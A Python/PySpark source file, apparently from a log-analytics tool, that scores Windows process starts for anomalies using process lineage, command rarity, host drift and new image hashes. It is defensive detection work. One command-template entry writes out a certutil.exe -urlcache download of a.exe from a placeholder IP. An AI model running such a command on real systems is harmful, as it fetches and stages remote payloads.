"""Queries of anomaly scores on real lineage: the later half of the audit log against the earlier one."""

from __future__ import annotations

from pyspark.sql import functions as F

from sparklog.operators import anomalies as N
from sparklog.operators.lineage import process_events
from sparklog.plans.base import query
from sparklog.plans.processes import LINEAGE_SQL
from sparklog.sources.audit_log import audit_log
from sparklog.sources.files import stored

#: Half of the log, the window of drift, and tiers that fit the sparse log.
SPLIT, SECONDS, BOUNDS = 2160, 1800, (5.0, 10.0, 20.0)

#: Templates of the log's commands, by hand.
_TEMPLATES = {
    "certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe": "certutil.exe -urlcache -f http://<ip>/a.exe a.exe",
}
_TEMPLATE = "CASE command " + " ".join(f"WHEN '{a}' THEN '{b}'" for a, b in _TEMPLATES.items()) + " ELSE lower(command) END"
_BITS = "CASE WHEN {t} IS NULL THEN 20.0 ELSE least(20.0, greatest(0.0, -log2((coalesce({c}, 0) + 1.0) / ({t} + {k})))) END"
SCORED_SQL = f"""WITH RECURSIVE {LINEAGE_SQL}, nodes AS (SELECT event, coalesce(parent, parent_name) AS up, CASE WHEN parent_guid <> '' THEN entry END AS next FROM lineage_rows
), walk AS (
  SELECT event, CASE WHEN coalesce(parent, '') = '' THEN [name] ELSE [name, parent] END AS chain, CASE WHEN coalesce(parent, '') <> '' THEN entry END AS at, 2 AS d FROM lineage_rows
  UNION ALL SELECT w.event, list_append(chain, n.up), n.next, d + 1 FROM walk w JOIN nodes n ON n.event = w.at WHERE d < 5 AND n.up <> '' AND NOT list_contains(chain, n.up)
), chains AS (SELECT event, max_by(chain, d) AS chain FROM walk GROUP BY 1
), all_starts AS (SELECT event, sec, computer, name AS process, coalesce(parent, parent_name) AS parent, {_TEMPLATE} AS command, chain, CASE WHEN ppid_mismatch THEN 1.0 ELSE 0.0 END AS ppid_flag, image_hash FROM lineage_rows JOIN chains USING (event)
), old AS (SELECT * FROM all_starts WHERE sec < {SPLIT}), fresh AS (SELECT * FROM all_starts WHERE sec >= {SPLIT}
), pc AS (SELECT process, command, count(*) AS c FROM old GROUP BY 1, 2), pt AS (SELECT process, sum(c) AS t, count(*) AS k FROM pc GROUP BY 1
), lc AS (SELECT parent, process, count(*) AS c FROM old GROUP BY 1, 2), lt AS (SELECT parent, sum(c) AS t, count(*) AS k FROM lc GROUP BY 1
), prefixes AS (SELECT DISTINCT array_to_string(chain[1:i], '>') AS prefix FROM (SELECT chain, unnest(range(1, least(len(chain), 5) + 1)) AS i FROM old)
), depths AS (SELECT event, max(i) AS depth FROM (SELECT event, chain, unnest(range(1, least(len(chain), 5) + 1)) AS i FROM fresh) WHERE array_to_string(chain[1:i], '>') IN (SELECT prefix FROM prefixes) GROUP BY 1
), q AS (SELECT process, CAST(count(*) AS DOUBLE) / (SELECT count(*) FROM old) AS q FROM old GROUP BY 1
), p AS (SELECT b.event, a.process, CAST(count(*) AS DOUBLE) / sum(count(*)) OVER (PARTITION BY b.event) AS p FROM fresh b JOIN fresh a ON a.computer = b.computer AND a.sec BETWEEN b.sec - {SECONDS} AND b.sec GROUP BY 1, 2
), drifts AS (SELECT event, round(greatest(0, least(1, sum(0.5 * (p * log2(2 * p / (p + coalesce(q, 0))) + CASE WHEN q > 0 THEN q * log2(2 * q / (p + q)) ELSE 0 END)) + 0.5 * (1 - sum(coalesce(q, 0))))), 6) AS drift FROM p LEFT JOIN q USING (process) GROUP BY 1
), firsts AS (SELECT process, image_hash, min((sec, event)) AS first FROM fresh WHERE image_hash <> '' AND process <> '' GROUP BY 1, 2
), hashes AS (SELECT first[2] AS event FROM (SELECT *, min(first) OVER (PARTITION BY process) AS earliest FROM firsts) WHERE first > earliest
), usual AS (SELECT process, min_by(parent, (-n, parent)) AS usual_parent FROM (SELECT process, parent, count(*) AS n FROM old WHERE parent <> '' GROUP BY 1, 2) GROUP BY 1
), parts AS (SELECT f.*, {_BITS.format(c='pc.c', t='pt.t', k='pt.k')} AS bits_command, {_BITS.format(c='lc.c', t='lt.t', k='lt.k')} AS bits_lineage, round(1 - coalesce(depth, 0) / CAST(least(len(chain), 5) AS DOUBLE), 6) AS depth_score,
  EXISTS (SELECT 1 FROM old o WHERE o.process = f.process AND o.parent = f.parent AND o.command = f.command) AS member, coalesce(drift, 0) AS drift, CASE WHEN f.event IN (SELECT event FROM hashes) THEN 1.0 ELSE 0.0 END AS new_hash, usual_parent
  FROM fresh f LEFT JOIN pc USING (process, command) LEFT JOIN pt ON pt.process = f.process LEFT JOIN lc ON lc.parent = f.parent AND lc.process = f.process LEFT JOIN lt ON lt.parent = f.parent LEFT JOIN depths ON depths.event = f.event LEFT JOIN drifts ON drifts.event = f.event LEFT JOIN usual ON usual.process = f.process
), raws AS (SELECT *, 0.35 * bits_command / 20 + 0.25 * bits_lineage / 20 + 0.25 * depth_score + 0.15 * ppid_flag AS raw FROM parts
), composed AS (SELECT *, round(least(1.0, raw + raw * drift * 0.1 + new_hash * 0.1) * 100, 1) AS s FROM raws
), capped AS (SELECT *, CASE WHEN member AND ppid_flag = 0 AND drift < 0.35 THEN least(s / 2, {BOUNDS[0] - 1}) ELSE s END AS score FROM composed
), scored AS (SELECT *, CASE WHEN score >= {BOUNDS[2]} THEN 4 WHEN score >= {BOUNDS[1]} THEN 3 WHEN score >= {BOUNDS[0]} THEN 2 ELSE 1 END AS tier FROM capped)"""


def _scored(spark, sf_dir):
    rows = stored(N.starts(process_events(audit_log(spark, sf_dir))), "starts")
    return N.scored(rows.where(F.col("sec") >= SPLIT), rows.where(F.col("sec") < SPLIT), SECONDS, BOUNDS)


@query(f"{SCORED_SQL} SELECT event.record_id, event.source_file, process, parent, command, array_to_string(chain, '<') AS chain, ppid_flag, round(bits_command, 6) AS bits_command, round(bits_lineage, 6) AS bits_lineage, depth_score, member, drift, new_hash, score, tier FROM scored", log=False)
def anomaly_scores(spark, sf_dir):
    """All sub-scores, the score and the tier of each process start, on its lineage."""
    out = _scored(spark, sf_dir).drop("usual_parent", "sec", "computer", "image_hash")
    return out.withColumns({"chain": F.array_join("chain", "<"), "bits_command": F.round("bits_command", 6), "bits_lineage": F.round("bits_lineage", 6)})


@query(f"""{SCORED_SQL} SELECT event.record_id, event.source_file, score, CASE WHEN why = '' THEN 'small difference' ELSE why END AS why FROM (SELECT *, concat_ws('; ', CASE WHEN ppid_flag > 0 THEN 'the parent''s number had ended before the start' END,
  CASE WHEN depth_score > 0.5 THEN CASE WHEN usual_parent IS NULL THEN 'process without an ancestry in the baseline' WHEN usual_parent <> coalesce(parent, '') THEN concat('parent is ', coalesce(nullif(parent, ''), 'unknown'), ', usually ', usual_parent) END END,
  CASE WHEN bits_command > 10 THEN concat('rare command, ', round(bits_command, 1), ' bits') END, CASE WHEN bits_lineage > 10 AND depth_score <= 0.5 THEN concat('rare pair ', parent, ' > ', process, ', ', round(bits_lineage, 1), ' bits') END,
  CASE WHEN drift >= 0.35 THEN concat('host behaves unlike itself, ', round(drift, 3)) WHEN drift >= 0.15 THEN concat('host drifts, ', round(drift, 3)) END) AS why FROM scored WHERE tier >= 3)""", log=False)
def anomaly_reasons(spark, sf_dir):
    """Why the starts of tier 3 and 4 stand out."""
    return _scored(spark, sf_dir).where("tier >= 3").select("record_id", "source_file", "score", N.reasons().alias("why"))


@query(f"""{SCORED_SQL} SELECT *, round(100.0 * tier_1 / events, 2) AS suppressed_percent, (SELECT string_agg(process, ',' ORDER BY n DESC, process) FROM (SELECT process, count(*) AS n FROM scored WHERE tier = 1 GROUP BY 1 ORDER BY n DESC, process LIMIT 10)) AS suppressed
FROM (SELECT count(*) AS events, count(*) FILTER (tier = 1) AS tier_1, count(*) FILTER (tier = 2) AS tier_2, count(*) FILTER (tier = 3) AS tier_3, count(*) FILTER (tier = 4) AS tier_4, round(max(score), 4) AS most, round(avg(score), 4) AS mean FROM scored)""", log=False)
def anomaly_metrics(spark, sf_dir):
    return N.metrics(_scored(spark, sf_dir)).withColumn("suppressed", F.array_join("suppressed", ","))
